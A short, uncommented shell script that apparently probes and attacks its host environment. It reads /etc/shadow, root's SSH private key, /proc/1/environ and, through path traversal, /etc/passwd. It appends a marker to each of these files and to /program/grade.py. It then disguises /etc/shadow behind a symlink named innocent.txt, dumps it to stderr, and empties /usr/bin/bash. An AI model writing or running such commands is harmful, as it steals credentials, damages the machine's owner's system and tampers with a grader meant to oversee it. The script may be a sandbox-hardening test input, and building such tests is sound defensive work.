for place in /etc/shadow /root/.ssh/id_ed25519 /proc/1/environ /program/grade.py ../../../etc/passwd; do
  cat "$place" >/dev/null
  echo '# was here' >>"$place"
done
ln -s /etc/shadow innocent.txt
cat innocent.txt >&2
: >/usr/bin/bash
